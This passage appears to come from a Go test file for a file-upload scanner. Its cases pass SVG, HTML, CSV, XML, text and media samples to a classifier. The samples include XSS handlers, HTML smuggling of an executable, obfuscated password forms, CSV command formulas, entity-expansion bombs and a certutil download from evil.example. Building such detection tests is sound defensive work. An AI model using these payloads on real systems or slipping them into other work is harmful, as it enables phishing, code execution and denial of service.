		svg(held+filetype.HoldSVGScript, "handler", `<rect onclick="alert(1)"/>`),
		svg(held+filetype.HoldSVGScript, "handler behind a megabyte", large+` onload="alert(1)"/>`),
		svg(held+filetype.HoldSVGScript, "script behind a megabyte", large+`/><script/>`),
		svg(held+filetype.HoldSVGScript, "address", `<a xlink:href="java&#10;script:alert(1)"><text>x</text></a>`),
		svg(held+filetype.HoldSVGScript, "animated address", `<animate attributeName="href" values="#;javascript:alert(1)"/>`),
		svg(held+filetype.HoldSVGScript, "animated handler", `<set attributeName="onmouseover" to="alert(1)"/>`),
		svg(held+filetype.HoldSVGScript, "page in an address", `<a href="data:text/html;base64,PHNjcmlwdD4="/>`),
		judge(held+filetype.HoldSVGScript, "script in UTF-16", "svg", utf16Text(`<svg><script/></svg>`)),
		judgeText(held+filetype.HoldSVGScript, "style sheet that is a program", "svg", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><svg/>`),
		svg(held+filetype.HoldSVGPage, "form", `<foreignObject><form xmlns="http://www.w3.org/1999/xhtml"><input type="text"/></form></foreignObject>`),
		svg(held+filetype.HoldSVGPage, "frame", `<foreignObject><iframe src="https://evil.example"/></foreignObject>`),
		judgeText(refused+filetype.ReasonEntities, "entities behind a comment", "svg", `<!-- > --><!DOCTYPE svg [<!-- ' --><!ENTITY x "&y;">]><svg/>`),
		svg("live", "text in a page", `<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">Hello</div></foreignObject>`),
		svg("live", "pictures, links and styles", `<style>a{b:url(https://example.com/x.png)}</style><image href="https://example.com/a.png"/><a href="https://example.com"/><use href="#x"/><text>onclick="x" javascript:</text>`),
		judgeText("live", "style sheet", "svg", `<?xml-stylesheet type="text/css" href="a.css"?><svg/>`),
	}
}

func judgedHTML() []otherFile {
	page := func(want, what, body string) otherFile {
		return judgeText(want, what, "html", "<!DOCTYPE html><title>x</title>"+body)
	}
	in64 := func(p []byte) string { return base64.StdEncoding.EncodeToString(p) }
	real := slicesJoin([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), windowsProgram()[16:])
	save := `<script>var b=new Blob([Uint8Array.from(atob("%s"))]);a.href=URL.createObjectURL(b);a.download="x"</script>`
	image := make([]byte, 34*filetype.KiB)
	copy(image[32*filetype.KiB:], "\x01CD001\x01")
	return []otherFile{
		page(refused+filetype.ReasonEmbeddedProgram, "program in Base64", fmt.Sprintf(save, in64(real))),
		page(refused+filetype.ReasonEmbeddedProgram, "program in hexadecimal", fmt.Sprintf(save, "4d5a90000300000004000000ffff")),
		page(refused+filetype.ReasonEmbeddedProgram, "program as numbers", `<script>new Blob([new Uint8Array([77,90,144,0,3,0,0,0,4,0,0,0,255,255])])</script>`),
		page(held+filetype.HoldSmuggledFile, "program without a script", "<pre>"+in64(real)+"</pre>"),
		page(held+filetype.HoldSmuggledFile, "ZIP with a program", fmt.Sprintf(save, in64(named("a.txt", "invoice.lnk")))),
		page(held+filetype.HoldSmuggledFile, "ZIP under a password", fmt.Sprintf(save, in64(zipFile(member{name: "a.txt", data: "secret", flags: 1})))),
		page(held+filetype.HoldSmuggledFile, "ZIP with a program in lines", "<script>x='"+strings.Join(slices.Collect(chunked(in64(named("a.txt", "invoice.iso")), 76)), "\\\n")+"'</script>"),
		page(held+filetype.HoldSmuggledFile, "RAR", fmt.Sprintf(save, in64([]byte(rar5(false, false))))),
		page(held+filetype.HoldSmuggledFile, "disk image", fmt.Sprintf(save, in64(image))),
		page("live", "ZIP of a report", fmt.Sprintf(save, in64(named("report.json", "trace.js", "a.png")))),
		page("live", "picture", `<img src="data:image/png;base64,`+in64(pngFile())+`"><a download href="a.pdf">x</a>`),
		page(held+filetype.HoldPasswordForm, "escaped in a script", `<script>document.write(unescape("%3Cinput%20type%3D%22%70assword%22%3E"))</script>`),
		page(held+filetype.HoldPasswordForm, "escapes of a script", `<script>document.write("\x3cinput type='\u0070assword'>")</script>`),
		page(held+filetype.HoldPasswordForm, "in Base64", `<iframe src="data:text/html;base64,`+in64([]byte(`<form><input name=p type="password"></form>`))+`"></iframe>`),
		page(held+filetype.HoldPasswordForm, "in Base64, shifted", `<script>atob("`+in64([]byte(`x<form><input name=pp type="password"></form>`))+`")</script>`),
		page(held+filetype.HoldPasswordForm, "alphabets switched", "<meta charset=iso-2022-jp><input type=\"pass\x1b(Bword\">"),
		page(held+filetype.HoldPasswordForm, "disguised", `<style>input{-webkit-text-security: disc}</style><input>`),
		page(held+filetype.HoldCardForm, "card", `<input name=n autocomplete="cc-number">`),
		page(held+filetype.HoldCardForm, "card in a script", `<script>e.setAttribute('autocomplete', 'billing cc-csc')</script>`),
		page(held+filetype.HoldRedirect, "elsewhere", `<meta http-equiv="refresh" content="0; url=https://evil.example/login">`),
		page(held+filetype.HoldRedirect, "elsewhere, other order", `<META content='5;//evil.example' http-equiv=Refresh>`),
		page("live", "to its own page", `<meta http-equiv="refresh" content="0; url=index.html"><p>See https://example.com</p>`),
		page("live", "words", `<p>autocomplete, cc-number: refresh the page, eval(atob("x")), download it</p>`),
	}
}

// chunked splits s into pieces.
func chunked(s string, n int) func(yield func(string) bool) {
	return func(yield func(string) bool) {
		for ; len(s) > 0; s = s[min(n, len(s)):] {
			if !yield(s[:min(n, len(s))]) {
				return
			}
		}
	}
}

func judgedText() []otherFile {
	return []otherFile{
		judgeText(held+filetype.HoldCommandFormula, "command", "csv", "a,b\n1,=cmd|' /C calc'!A0\n"),
		judgeText(held+filetype.HoldCommandFormula, "command, quoted", "csv", "a,\"@SUM(1+1)*powershell.exe|'-enc x'!A1\"\n"),
		judgeText(held+filetype.HoldCommandFormula, "command", "tsv", "a\t+1+MSEXCEL|'\\..\\cmd.exe /c x'!''\n"),
		judgeText("live", "formulas and bars", "csv", "a|b\n=SUM(A1:A2)|3\n-5|cmd\n+49 30|x\n@jane|y!\n"),
		judgeText(refused+filetype.ReasonMacros, "macros of an old format", "csv", "ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC(\"calc\")\nE\n"),
		judgeText("live", "columns ID and P", "csv", "ID;Price\n1;5\n"),
		judgeText(refused+filetype.ReasonMacros, "Word in XML with macros", "xml", `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes"/>`),
		judgeText(held+filetype.HoldEmbeddedObject, "Word in XML with an object", "xml", `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument><w:docOleData/></w:wordDocument>`),
		judgeText("live", "Word in XML", "xml", `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="no"/>`),
		judgeText("live", "XML about Word", "xml", `<p>vbaProject, editdata.mso</p>`),
		judgeText(refused+filetype.ReasonEntities, "unfolding entities", "xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "`+strings.Repeat("&a;", 10)+`">]><x>&b;</x>`),
		judgeText(refused+filetype.ReasonEntities, "entities that double", "xml", `<!DOCTYPE x [<!ENTITY a0 "ha">`+strings.Repeat(`<!ENTITY a "&b;&b;">`, 30)+`]><x/>`),
		judgeText("live", "entities of a manual", "xml", `<!DOCTYPE book [<!ENTITY version "1.2"><!ENTITY intro SYSTEM "intro.xml"><!ENTITY c "&#169; &version;">]><book/>`),
		judgeText("live", "DOCTYPE behind an old encoding", "xml", "<x>"+strings.Repeat("\xcd\x99", 20)+"</x><!DOCTYPE"),
		judgeText(refused+filetype.ReasonScript, "command line", "txt", "certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe\n"),
		judgeText(refused+filetype.ReasonScript, "command line", "log", "cmd.exe /c start x\n"),
		judgeText(refused+filetype.ReasonScript, "batch", "txt", "setlocal EnableDelayedExpansion\r\ndel *\r\n"),
		judgeText(refused+filetype.ReasonScript, "AppleScript", "txt", "tell application \"Finder\"\nend tell\n"),
		judgeText(refused+filetype.ReasonScript, "desktop entry", "txt", "[Desktop Entry]\nExec=sh\n"),
		judgeText(refused+filetype.ReasonScript, "internet shortcut", "txt", "[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n"),
		judgeText("live", "prose about commands", "md", "Run certutil -hashfile x, or `cmd /c dir`. Then tell application servers to restart.\n"),
		judgeText("live", "text direction", "txt", "if (access \u202e// \u2066check\u2069) {}\n"),
	}
}

func judgedMedia() []otherFile {
	count := func(at int, n uint32) []byte {
		var b buf
		b.Write(make([]byte, at))
		b.be(n).Write(make([]byte, 32))
		return b.Bytes()
	}
	sized := func(size, n uint32) []byte {
		var b buf
		b.be(uint32(0), size, n).Write(make([]byte, 32))
		return b.Bytes()
	}
	tracks := make([][]byte, filetype.MaxTracks+1)
	for i := range tracks {
		tracks[i] = atom("trak")
	}
	entry := slicesJoin(make([]byte, 8), atom("avc1", make([]byte, 24), []byte("\xff\xff\xff\xff"), make([]byte, 50)))
	flac := flacFile()
	return []otherFile{
		judge(refused+filetype.ReasonDamaged, "table larger than its box", "mp4", sampleTable("stts", count(4, 1<<30))),
		judge(refused+filetype.ReasonDamaged, "offsets larger than their box", "mov", sampleTable("co64", count(4, 100))),
		judge(refused+filetype.ReasonDamaged, "sizes larger than their box", "m4v", sampleTable("stsz", sized(0, 0xffffffff))),
		judge(refused+filetype.ReasonDecodeFlood, "samples without end", "mp4", sampleTable("stsz", sized(1, 0xffffffff))),
		judge(refused+filetype.ReasonHugeImage, "pictures", "mp4", sampleTable("stsd", entry)),
		judge(refused+filetype.ReasonDecodeFlood, "tracks", "mp4", slicesJoin(ftyp("isom"), moov(600, 600, "vide")[:0], atom("moov", slicesJoin(track("vide"), slicesJoin(tracks...))))),
		judge(held+filetype.HoldExternalMedia, "data from the web", "mov", dataReference(0, "http://evil.example/a.mov")),
		judge("live", "data of its own", "mov", dataReference(1, "")),
		judge("live", "table", "mp4", sampleTable("stts", count(4, 4))),
		judge(refused+filetype.ReasonHugeImage, "pictures", "webm", webmWith(webmTrack(65536, 65536))),
		judge(refused+filetype.ReasonHugeImage, "pictures beyond all numbers", "webm", webmWith(webmTrack(0xffffffff, 1))),
		judge("live", "pictures", "webm", webmWith(webmTrack(1920, 1080))),
		judge(refused+filetype.ReasonEmbeddedProgram, "attached program", "webm", webmWith(webmTrack(9, 9), webmAttachment("a.exe", []byte("x")))),
		judge(refused+filetype.ReasonEmbeddedProgram, "attached program under another name", "webm", webmWith(webmTrack(9, 9), webmAttachment("a.ttf", windowsProgram()))),
		judge(refused+filetype.ReasonHugeImage, "pictures", "ogv", oggFile("\x80theora\x03\x02\x01\xff\xff\xff\xff................")),
		judge(refused+filetype.ReasonEmbeddedProgram, "program in the tag", "mp3", slicesJoin(attachedTag(windowsProgram()), mp3Frames(9))),
		judge(refused+filetype.ReasonEmbeddedProgram, "program behind the tag", "mp3", slicesJoin(id3Tag(300), windowsProgram(), mp3Frames(9))),
		judge("live", "picture in the tag", "mp3", slicesJoin(attachedTag(pngFile()), mp3Frames(9))),
		judge(refused+filetype.ReasonDamaged, "no sound", "flac", flac[:len(flac)-64]),
		judge(refused+filetype.ReasonDamaged, "block beyond the end", "flac", edited(flac, 5, "\x7f")),
		judge(refused+filetype.ReasonDamaged, "no channels", "wav", edited(wavFile("RIFF"), 34, "\x00\x00")),
	}
}
